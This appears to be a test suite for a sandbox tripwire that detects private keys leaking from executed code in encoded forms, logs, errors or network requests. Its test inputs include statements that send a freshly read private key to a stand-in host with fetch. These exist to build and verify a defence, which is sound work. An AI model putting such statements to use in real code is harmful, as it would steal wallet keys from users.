import { expect } from "chai";
import fc from "fast-check";
import { FetchFailed } from "../../../executor/fetcher/types";
import { RunShares, RunFetches, type FetchAnswer } from "../../../executor/sandbox/fetches";
import { Tripwire } from "../../../executor/sandbox/tripwire";
import type { OpCall } from "../../../executor/sandbox/types";
import { RUN_LIMITS } from "../../../protocol/limits";
import { inTurn } from "../../../executor/loop";
import { count, SEED } from "../../support/counts";
import { longestHold } from "../../support/ops";
import { jobOf, noFetcher, run, unmeasured } from "../../support/sandbox";
import { expectInTime, itInTime } from "../../support/inTime";

const KEY = "0x8f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f1";
const raw = Buffer.from(KEY.slice(2), "hex");

describe("the key tripwire", () => {
  const watching = (...keys: string[]) => {
    const tripwire = new Tripwire();
    for (const key of keys) tripwire.watch(key);
    return tripwire;
  };

  const atOnce = async (search: () => boolean): Promise<boolean> => search();

  it("finds any key in any of its encodings, at any position", async () => {
    const bytes = (length: number) =>
      fc.uint8Array({ minLength: length, maxLength: length }).map((array) => Buffer.from(array));
    const around = fc.uint8Array({ maxLength: 5 }).map((array) => Buffer.from(array));
    await fc.assert(
      fc.asyncProperty(bytes(32), around, around, fc.string(), fc.string(), async (key, before, after, left, right) => {
        const tripwire = watching(key.toString("hex"));
        const inside = Buffer.concat([before, key, after]);
        const forms = [
          key.toString("hex"),
          key.toString("hex").toUpperCase(),
          `0x${key.toString("hex")}`,
          inside.toString("base64"),
          inside.toString("base64url"),
          encodeURIComponent(inside.toString("base64")),
        ];
        for (const form of forms) if (!(await tripwire.isIn([`${left}${form}${right}`], atOnce))) return false;
        return tripwire.isIn([inside], atOnce);
      }),
      {
        seed: SEED,
        numRuns: count(200, 5_000),
        examples: [[Buffer.from(`${"00".repeat(27)}7fe0000000`, "hex"), Buffer.alloc(0), Buffer.alloc(0), "%", ""]],
      },
    );
  });

  it("finds a key at any position in a long body, with every character escaped", async () => {
    const tripwire = watching(KEY);
    const escaped = [...KEY.slice(2)].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join("");
    for (const form of [KEY.slice(2), escaped, raw.toString("base64")]) {
      for (const end of [64 * 1_024, 512 * 1_024, 700_000]) {
        for (const back of [0, 1, Math.floor(form.length / 2), form.length]) {
          const body = Buffer.alloc(1_000_000, "%");
          body.write(form, end - back, "latin1");
          expect(await tripwire.isIn([body], atOnce), `${form.slice(0, 8)} at ${end - back}`).to.equal(true);
        }
      }
    }
  });

  itInTime("scans 10 MiB of the worst case in slices of a few milliseconds", async () => {
    const tripwire = watching(KEY, ...Array.from({ length: 9 }, (_, i) => `0x${String(i).repeat(64)}`));
    const body = Buffer.alloc(10 * 2 ** 20, "%41-_");
    const found = { yes: true };
    const held = await longestHold(async () => {
      found.yes = await tripwire.isIn([body], (search) => inTurn("an account", search));
    });
    expect(found.yes).to.equal(false);
    expectInTime(held, 50);
  });

  it("does not scan a body that is refused anyway", async () => {
    const tripwire = watching(KEY);
    let looked = 0;
    tripwire.isIn = async () => (looked++, false);
    const fetcher = {
      ...noFetcher,
      checkGuest: () => Promise.reject(new FetchFailed("refused", "127.0.0.1 is not a public address")),
    };
    const fetches = new RunFetches(
      1,
      jobOf(""),
      { fetcher, shares: new RunShares(RUN_LIMITS.fetchBytes), time: unmeasured },
      tripwire,
      new AbortController().signal,
    );
    const answers: FetchAnswer[] = [];
    await fetches.serve(
      JSON.stringify({ url: "http://127.0.0.1/", method: "POST", redirect: "follow", headers: [] }),
      Buffer.alloc(1_000),
      async (answer) => void answers.push(answer),
    );
    expect([answers[0]?.ok, looked]).to.deep.equal([false, 0]);
  });

  it("does not match anything else", async () => {
    const tripwire = watching(KEY);
    const others = fc.uint8Array({ minLength: 32, maxLength: 64 }).map((array) => Buffer.from(array));
    await fc.assert(
      fc.asyncProperty(
        others,
        async (other) => !(await tripwire.isIn([other.toString("hex"), other.toString("base64"), other], atOnce)),
      ),
      { seed: SEED, numRuns: count(200, 5_000) },
    );
    expect(await tripwire.isIn([undefined, "", KEY.slice(0, -1)], atOnce)).to.equal(false);
    expect(await watching().isIn([KEY], atOnce)).to.equal(false);
  });

  describe("in a run that got a key", () => {
    const ops = (call: OpCall) => ({
      ok: true as const,
      value: JSON.stringify(KEY),
      exposes: call.name === "getPrivateKey" ? [KEY] : [],
    });
    const read = `const key = await Actions.getPrivateKey({ pkpId: "0x1" });`;
    const b64 = raw.toString("base64");

    const leaks: Record<string, string> = {
      "in the response": `return { deep: ["a" + key.toUpperCase()] };`,
      "in the response as base64": `return btoa("ab" + String.fromCharCode(...ethers.getBytes(key)) + "c");`,
      "set as the response": `Actions.setResponse({ response: key.slice(2) });`,
      "in a log": `console.log("the key is", key); return 1;`,
      "in a log of its parts": `console.log({ nested: { key } });`,
      "in an error": `throw new Error("bad " + key);`,
      "in the name of an error": `const error = new Error("bad"); error.name = key; throw error;`,
      "thrown as it is": `throw key;`,
      "in a URL": `await fetch("http://a.test/?k=" + key);`,
      "in a URL as escaped base64": `await fetch("http://a.test/?k=" + encodeURIComponent("${b64}"));`,
      "in a header": `await fetch("http://a.test/", { headers: { "x-key": key } });`,
      "in a body": `await fetch("http://a.test/", { method: "POST", body: JSON.stringify({ key }) });`,
      "in a body as bytes": `await fetch("http://a.test/", { method: "POST", body: ethers.getBytes(key) });`,
      "in a fetch whose failure is caught": `try { await fetch("http://a.test/?" + key); } catch {} return 1;`,
    };
    for (const [where, statement] of Object.entries(leaks)) {
      it(`${where}: key_exposed, nothing is sent`, async () => {
        const outcome = await run(`async function main() { console.log("logged"); ${read} ${statement} }`, { ops });
        expect(outcome).to.deep.include({ response: "null", logs: "" });
        expect(outcome.error?.code, JSON.stringify(outcome)).to.equal("key_exposed");
        expect(outcome.error).to.not.have.property("stack");
        expect(JSON.stringify(outcome).toLowerCase()).to.not.contain(KEY.slice(2, 20));
      });
    }

    it("a run that only uses its key is not affected", async () => {
      const outcome = await run(
        `async function main() { ${read} console.log("used"); return new ethers.Wallet(key).address; }`,
        { ops },
      );
      expect(outcome.error).to.equal(undefined);
      expect(outcome.logs).to.equal("used\n");
    });

    it("a forced end is scanned, too", async () => {
      const outcome = await run(`async function main() { ${read} console.log(key); for (;;); }`, {
        ops,
        limits: { wallMs: 300 },
      });
      expect(outcome).to.deep.include({ logs: "" });
      expect(outcome.error?.code).to.equal("key_exposed");
    });
  });
});
